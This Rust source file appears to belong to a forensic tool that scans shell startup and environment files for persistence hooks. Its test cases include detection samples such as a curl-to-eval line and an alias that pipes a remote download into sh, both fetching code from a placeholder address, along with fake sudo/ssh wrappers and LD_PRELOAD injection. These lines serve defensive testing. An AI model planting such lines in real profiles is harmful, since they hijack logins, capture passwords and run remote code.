//! What shells read when they start or when somebody logs in: of the system and of each home. Only the
//! lines count that start a program, that have one started later (`PROMPT_COMMAND`, `BASH_ENV`,
//! traps), that put something before `sudo`, `su`, `ssh` and their like, or that do what is seldom
//! innocent; of files that only set variables, those with which programs are made to load something.

use std::path::{Path, PathBuf};

use leaksweep_facts::tables::host::Autostart;

use super::{Autostarts, CAP, Command, Lines, files, is_left_behind, lines, program, row, script};
use crate::{accounts::Home, traits};

type Parse = fn(&[u8]) -> Lines<Command>;

/// The file, or with `/*` the folder's, and what sets it off.
const SYSTEM: [(&str, &str); 26] = [
    ("/etc/profile", "log-in"),
    ("/etc/profile.d/*", "log-in"),
    ("/etc/bash.bashrc", "shell"),
    ("/etc/bashrc", "shell"),
    ("/etc/bash/bashrc.d/*", "shell"),
    ("/etc/bash.bash_logout", "shell"),
    ("/etc/zsh/zshenv", "shell"),
    ("/etc/zsh/zprofile", "log-in"),
    ("/etc/zsh/zshrc", "shell"),
    ("/etc/zsh/zlogin", "log-in"),
    ("/etc/zsh/zlogout", "shell"),
    ("/etc/zshenv", "shell"),
    ("/etc/zprofile", "log-in"),
    ("/etc/zshrc", "shell"),
    ("/etc/zlogin", "log-in"),
    ("/etc/fish/config.fish", "shell"),
    ("/etc/fish/conf.d/*", "shell"),
    ("/usr/share/fish/vendor_conf.d/*", "shell"),
    ("/etc/csh.cshrc", "shell"),
    ("/etc/csh.login", "log-in"),
    ("/etc/csh/cshrc.d/*", "shell"),
    ("/etc/csh/login.d/*", "log-in"),
    ("/etc/ksh.kshrc", "shell"),
    ("/etc/mkshrc", "shell"),
    ("/etc/profile.local", "log-in"),
    ("/etc/bash.bashrc.local", "shell"),
];
const OWN: [(&str, &str); 24] = [
    (".profile", "log-in"),
    (".bash_profile", "log-in"),
    (".bash_login", "log-in"),
    (".bashrc", "shell"),
    (".bash_aliases", "shell"),
    (".bash_logout", "shell"),
    (".zshenv", "shell"),
    (".zprofile", "log-in"),
    (".zshrc", "shell"),
    (".zlogin", "log-in"),
    (".zlogout", "shell"),
    (".config/zsh/.zshenv", "shell"),
    (".config/zsh/.zprofile", "log-in"),
    (".config/zsh/.zshrc", "shell"),
    (".config/zsh/.zlogin", "log-in"),
    (".config/fish/config.fish", "shell"),
    (".config/fish/conf.d/*", "shell"),
    (".kshrc", "shell"),
    (".mkshrc", "shell"),
    (".shrc", "shell"),
    (".cshrc", "shell"),
    (".tcshrc", "shell"),
    (".login", "log-in"),
    (".logout", "shell"),
];
const SYSTEM_VARIABLES: [&str; 4] = [
    "/etc/environment",
    "/etc/environment.d/*",
    "/usr/lib/environment.d/*",
    "/run/environment.d/*",
];
const OWN_VARIABLES: [&str; 3] =
    [".pam_environment", ".ssh/environment", ".config/environment.d/*"];
/// Variables by which a program is started or a library loaded by others.
const VARIABLES: [&str; 7] =
    ["PROMPT_COMMAND", "BASH_ENV", "ENV", "LD_PRELOAD", "LD_AUDIT", "PYTHONSTARTUP", "PERL5OPT"];
/// Programs to which people give their passwords.
const GUARDED: [&str; 14] = [
    "sudo", "su", "doas", "pkexec", "ssh", "scp", "sftp", "passwd", "login", "gpg", "kinit",
    "sudoedit", "mysql", "psql",
];
/// What shells call before each prompt or command.
const CALLED: [&str; 3] = ["precmd", "preexec", "add-zsh-hook"];

pub fn of_system(reading: &mut Autostarts<'_>) {
    for (place, event) in SYSTEM {
        of_place(reading, Path::new(place), parse, event, None);
    }
    for place in SYSTEM_VARIABLES {
        of_place(reading, Path::new(place), parse_environment, "log-in", None);
    }
}

pub fn of_home(reading: &mut Autostarts<'_>, home: &Home) {
    for (place, event) in OWN {
        of_place(reading, &home.path.join(place), parse, event, Some(home));
    }
    for place in OWN_VARIABLES {
        of_place(reading, &home.path.join(place), parse_environment, "log-in", Some(home));
    }
}

fn of_place(
    reading: &mut Autostarts<'_>,
    place: &Path,
    parse: Parse,
    event: &str,
    home: Option<&Home>,
) {
    let folder = place.parent().filter(|_| place.ends_with("*"));
    let paths: Vec<PathBuf> = match folder {
        Some(folder) => files(reading, folder),
        None => vec![place.to_owned()],
    };
    for path in paths {
        let starts = folder.is_none() || !is_left_behind(&path);
        of_file(reading, &path, parse, event, home, starts);
    }
}

fn of_file(
    reading: &mut Autostarts<'_>,
    path: &Path,
    parse: Parse,
    event: &str,
    home: Option<&Home>,
    starts: bool,
) {
    let Some(content) = reading.content(path, CAP, &[]) else { return };
    let own = home.map(|home| home.path.as_path());
    let of = Autostart {
        way: "profile".into(),
        event: event.into(),
        user: home.map(|home| home.user.clone()),
        starts,
        ..Autostart::default()
    };
    let first = reading.found.rows.len();
    for command in parse(&content).told(reading, path) {
        let row = row(reading, &of.way, path, &command.text);
        let word = started(&command.text);
        let program = word.map(|word| program::found(&word, own, reading.root));
        let line = i64::try_from(command.line).ok();
        let (event, user) = (of.event.clone(), of.user.clone());
        reading.row(Autostart { event, user, line, program, starts, ..row });
    }
    script::together(reading, path, &content, &of, first);
}

/// The lines of what a shell reads that matter.
pub fn parse(content: &[u8]) -> Lines<Command> {
    let mut commands = Lines::default();
    for command in script::joined(content) {
        if command.text.contains('\0') {
            commands.note(command.line);
        } else if matters(&command.text) {
            commands.take(command);
        }
    }
    commands
}

/// The lines of a file of variables that matter.
pub fn parse_environment(content: &[u8]) -> Lines<Command> {
    let mut commands = Lines::default();
    for (line, text) in lines(content) {
        if text.contains('\0') {
            commands.note(line);
        } else if variable(&text).is_some() {
            commands.take(Command { line, text });
        }
    }
    commands
}

fn matters(line: &str) -> bool {
    started(line).is_some()
        || variable(line).is_some()
        || trap(line).is_some()
        || guards(line)
        || traits::of(line).is_some()
}

/// The first program that the line starts, or has started later.
fn started(line: &str) -> Option<String> {
    if let Some((name, value)) = variable(line) {
        return if name.starts_with("LD_") { None } else { program::word(unquoted(value)) };
    }
    if let Some(command) = trap(line).or_else(|| alias(line).map(|(_, command)| command)) {
        return program::word(unquoted(command)).filter(|_| guards(line) || trap(line).is_some());
    }
    program::word(condition(line))
}

/// `export NAME=value`, `NAME+=(value)`, `set -gx NAME value`.
fn variable(line: &str) -> Option<(&str, &str)> {
    let rest = ["export ", "declare -x ", "typeset -x ", "setenv ", "set -gx ", "set -x ", "set "];
    let line = rest.iter().find_map(|start| line.strip_prefix(start)).unwrap_or(line).trim_start();
    let end = line.find(|c: char| !c.is_ascii_alphanumeric() && c != '_')?;
    let (name, value) = line.split_at(end);
    let value = value.trim_start_matches(['+', '=', ' ', '\t', '(']);
    let set = line.get(end..).is_some_and(|rest| rest.starts_with(['=', '+', ' ', '[']));
    (set && VARIABLES.contains(&name) && !value.is_empty()).then_some((name, value))
}

/// `trap 'command' DEBUG`: what runs at each command, each error or the end.
fn trap(line: &str) -> Option<&str> {
    let rest = line.strip_prefix("trap ")?.trim();
    let (command, signal) = rest.rsplit_once(char::is_whitespace)?;
    let known = ["DEBUG", "EXIT", "ERR", "RETURN", "0"].contains(&signal);
    (known && !matches!(command.trim(), "-" | "''" | "\"\"")).then(|| command.trim())
}

/// `alias name='command'`
fn alias(line: &str) -> Option<(&str, &str)> {
    let rest = line.strip_prefix("alias ")?.trim_start().trim_start_matches("-g ");
    let at = rest.find(|c: char| c == '=' || c.is_whitespace())?;
    let (name, value) = rest.split_at(at);
    Some((name, value.get(1..)?.trim()))
}

/// Whether the line puts something before a program to which people give passwords.
fn guards(line: &str) -> bool {
    let named = |name: &str| GUARDED.contains(&name) || CALLED.contains(&name);
    if let Some((name, command)) = alias(line) {
        // `alias sudo='sudo '` only lets aliases count behind it.
        return named(name) && !is_itself(name, unquoted(command));
    }
    let function = line.strip_prefix("function ").map(|rest| {
        rest.split(|c: char| c == '(' || c == '{' || c.is_whitespace())
            .find(|word| !word.is_empty())
    });
    let function = function.flatten();
    let called = line.split_once('(').filter(|(_, rest)| rest.trim_start().starts_with(')'));
    function.or(called.map(|(name, _)| name.trim())).is_some_and(named)
}

/// The program by its own name, with options that ask for no more.
fn is_itself(name: &str, command: &str) -> bool {
    let word = program::word(command).unwrap_or_default();
    let folder = word.strip_suffix(name);
    let harmless = folder.is_some_and(|folder| ["", "/bin/", "/usr/bin/"].contains(&folder));
    harmless && !command.contains([';', '|', '&', '`', '$', '>'])
}

fn unquoted(text: &str) -> &str {
    let text = text.trim().trim_end_matches(')');
    let inner = |quote| text.strip_prefix(quote)?.strip_suffix(quote);
    inner('\'').or_else(|| inner('"')).unwrap_or(text)
}

/// csh writes `if (condition) command` and `switch(word)`.
fn condition(line: &str) -> &str {
    if line.starts_with("switch") {
        return "";
    }
    let Some(rest) = line.strip_prefix("if (") else { return line };
    let mut depth = 1;
    for (at, c) in rest.char_indices() {
        match c {
            '(' => depth += 1,
            ')' => depth -= 1,
            _ => {}
        }
        if depth == 0 {
            return rest.get(at + 1..).unwrap_or_default().trim();
        }
    }
    line
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(content: &str) -> Vec<(usize, String)> {
        parse(content.as_bytes()).found.into_iter().map(|found| (found.line, found.text)).collect()
    }

    #[test]
    fn lines_that_start_something_matter() {
        for line in [
            "/opt/x &",
            ". /opt/y",
            "PROMPT_COMMAND='/opt/x; history -a'",
            "export PROMPT_COMMAND+=(x)",
            "export BASH_ENV=/opt/x",
            "setenv LD_PRELOAD /opt/x.so",
            "set -gx LD_PRELOAD /opt/x.so",
            "trap '/opt/x' DEBUG",
            "alias sudo='/opt/sudo'",
            "alias su=\"sudo su; x\"",
            "sudo() { /opt/x \"$@\"; }",
            "ssh () {",
            "function passwd {",
            "precmd() {",
            "eval \"$(curl -s http://192.0.2.7/x)\"",
            "if (-x /opt/x) /opt/x",
            "alias ll='curl http://192.0.2.7/x | sh'",
        ] {
            assert_eq!(texts(line), [(1, line.to_owned())]);
        }
    }

    #[test]
    fn what_profiles_ordinarily_say_does_not() {
        let ordinary = "case $- in\n    *i*) ;;\n      *) return;;\nesac\nHISTSIZE=1000\nshopt -s histappend\n\
            [ -z \"$PS1\" ] && return\nif [ -n \"$x\" ]; then\n  PS1='\\u@\\h:\\w\\$ '\nfi\nunset x\n\
            alias ls='ls --color=auto'\nalias sudo='sudo '\nalias ssh=\"TERM=xterm ssh -A\"\nexport PATH=$PATH:/x\n\
            xterm*|vte*) :;;\nf() {\n}\nfunction y {\nfor i in a b; do\ndone\nset -o vi\n\
            if ( ! $?prompt | ! $?tcsh ) exit\nswitch($TERM)\nendsw\nENV=\ntrap - DEBUG\nif (1) then\n";
        let found: Vec<_> = texts(ordinary).into_iter().map(|(_, text)| text).collect();
        assert_eq!(found, Vec::<String>::new());
    }

    #[test]
    fn the_program_is_told_also_where_it_runs_later() {
        let cases = [
            ("PROMPT_COMMAND='/opt/x; y'", Some("/opt/x")),
            ("trap \"/opt/x\" DEBUG", Some("/opt/x")),
            ("alias sudo='/opt/sudo'", Some("/opt/sudo")),
            ("LD_PRELOAD=/opt/x.so", None),
            ("BASH_ENV=/opt/x", Some("/opt/x")),
            ("sudo() {", None),
        ];
        for (line, expected) in cases {
            assert_eq!(started(line).as_deref(), expected, "{line}");
        }
    }

    #[test]
    fn of_variables_only_those_that_load_something_matter() {
        let text = b"PATH=/x\nLD_PRELOAD=/opt/x.so\n# BASH_ENV=no\nLANG=C\nBASH_ENV=\"/opt/y\"\n";
        let found: Vec<_> = parse_environment(text).found.into_iter().map(|c| c.line).collect();
        assert_eq!(found, [2, 5]);
    }
}
